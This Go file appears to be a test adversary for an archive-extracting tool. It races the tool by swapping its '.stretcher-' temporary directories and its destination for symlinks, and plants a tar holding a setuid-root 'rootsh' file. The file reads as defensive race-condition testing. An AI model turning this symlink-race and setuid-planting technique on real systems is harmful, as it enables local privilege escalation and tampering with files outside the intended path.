package attack

import (
	"archive/tar"
	"bytes"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"time"
)

// loot is what the stranger wants to be deployed.
const loot = "rootsh"

// attack is the stranger's process. It goes on until its standard input ends,
// and prints how often it has moved something.
func attack(kind string, args []string) {
	dest, victim, dirs := args[0], args[1], args[2:]
	done := make(chan struct{})
	go func() {
		_, _ = io.Copy(io.Discard, os.Stdin)
		close(done)
	}()
	fmt.Print("!")
	moves := 0
	for {
		select {
		case <-done:
			restore(dest)
			fmt.Println(moves)
			return
		default:
		}
		switch kind {
		case "temp":
			moves += swapTemp(dirs, victim)
			time.Sleep(200 * time.Microsecond)
		case "dest":
			moves += swapDest(dest, victim)
		}
	}
}

// swapTemp puts a directory of his own in the place of each temporary one:
// with an archive in it, and with a tree that is a symlink.
func swapTemp(dirs []string, victim string) (moves int) {
	for _, dir := range dirs {
		entries, _ := os.ReadDir(dir)
		for _, e := range entries {
			if !strings.HasPrefix(e.Name(), ".stretcher-") || strings.HasSuffix(e.Name(), ".x") {
				continue
			}
			name := filepath.Join(dir, e.Name())
			if os.Rename(name, name+".x") != nil || os.Mkdir(name, 0o755) != nil {
				continue
			}
			moves++
			for _, file := range []string{"archive", "archive.unverified"} {
				_ = os.WriteFile(filepath.Join(name, file), evil(), 0o644)
			}
			_ = os.Symlink(victim, filepath.Join(name, "tree"))
		}
	}
	return moves
}

// evil is an archive that holds the loot, root's and setuid.
func evil() []byte {
	var b bytes.Buffer
	tw := tar.NewWriter(&b)
	_ = tw.WriteHeader(&tar.Header{Name: loot, Typeflag: tar.TypeReg, Mode: 0o4755, Size: 4})
	_, _ = io.WriteString(tw, "evil")
	_ = tw.Close()
	return b.Bytes()
}

// away is where dest is while a symlink has its place.
func away(dest string) string { return dest + ".away" }

// swapDest puts a symlink in the place of dest for a moment.
func swapDest(dest, victim string) (moves int) {
	_ = os.Rename(dest, away(dest))
	if os.Symlink(victim, dest) == nil {
		moves++
	}
	time.Sleep(time.Duration(time.Now().UnixNano()%1500) * time.Microsecond)
	restore(dest)
	time.Sleep(time.Duration(time.Now().UnixNano()%700) * time.Microsecond)
	return moves
}

// restore gives dest its name back.
func restore(dest string) {
	if info, err := os.Lstat(dest); err == nil && info.Mode()&os.ModeSymlink != 0 {
		_ = os.Remove(dest)
	}
	_ = os.Rename(away(dest), dest)
}
